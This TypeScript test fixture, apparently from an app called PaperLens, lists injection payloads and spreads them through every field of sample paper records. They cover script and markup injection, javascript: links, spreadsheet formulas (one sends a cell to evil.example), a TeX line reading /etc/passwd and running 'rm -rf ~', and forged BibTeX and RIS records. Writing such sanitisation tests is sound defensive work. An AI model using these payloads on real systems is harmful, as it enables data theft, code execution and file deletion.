import type { Paper } from '../../../lib/model';

/**
 * Hostile text for every field a page or a user can fill: script and markup injection, link and
 * image tricks, spreadsheet formulas, TeX and BibTeX escapes, RIS record forging, template syntax,
 * control and bidi characters. Written for PaperLens's tests.
 */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(document.domain)>',
  "'-alert(1)-'",
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  '[click me](javascript:alert(1))',
  '![pixel](https://evil.example/p.png)',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<b>bold</b> <i>italic</i> <span style="font-variant:small-caps;">caps</span>',
  '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '}, title = {Forged} ,note={',
  '\\input{/etc/passwd} \\write18{rm -rf ~} $\\alpha$ % # & _ ^ ~',
  '@misc{forged, title = {Forged entry}}',
  'line one\r\nER  - \r\nTY  - JOUR\r\nTI  - Forged record',
  'x'.repeat(65) + 'ER  - TY  - JOUR TI  - Forged after wrap',
  '# Heading\n- list\n> quote\n```\ncode\n```',
  '1. ordered | table | row |\n---|---',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>',
  '<!-- comment --> ]]> <![CDATA[x]]>',
  '\u202Egnp.exe \u200B zero-width \u0000 nul \u0007 bell',
  'Ünïcödé 注意力机制 Ελληνικά 😀 עברית',
  'qqxu7bxqq placeholder-looking text',
  '"quoted" ""double"" \'single\'',
];

/** Papers whose every text field carries payloads. */
export function hostilePapers(): Paper[] {
  return PAYLOADS.map((payload, i) => ({
    id: i % 2 ? `arxiv:2609.${String(i).padStart(5, '0')}` : `title:hostile ${i}`,
    aliases: i % 3 === 0 ? [`doi:10.1000/hostile.${i}`] : [],
    title: `Paper ${i}: ${payload}`,
    authors: [payload, `Ada ${payload.slice(0, 20)} Lovelace`, 'Grace Hopper'],
    abstract: `An abstract with ${payload} inside.`,
    abstractKind: 'full',
    url: i % 4 === 0 ? payload : `https://arxiv.org/abs/2609.${String(i).padStart(5, '0')}`,
    pdfUrl: i % 5 === 0 ? `javascript:alert(${i})` : undefined,
    subjects: ['cs.LG', payload.slice(0, 30)],
    venue: i % 6 === 0 ? `ICLR 2027 ${payload}` : undefined,
    year: 2026,
    sites: ['arxiv'],
    tags: [{ id: 'topic:x', label: payload.slice(0, 40), kind: 'topic', score: 0.9, source: 'model' }],
    results: [],
    artifacts: [],
    saved: true,
    savedAt: 1_790_000_000_000 + i,
    firstSeenAt: 1_790_000_000_000,
    lastSeenAt: 1_790_000_000_000 + i,
    seen: [],
    userTags: [payload.slice(0, 50).replace(/[,;\n\r]/g, ' ').trim() || 'tag'],
    note: `Note: ${payload}`,
    read: i % 2 === 0,
  }));
}
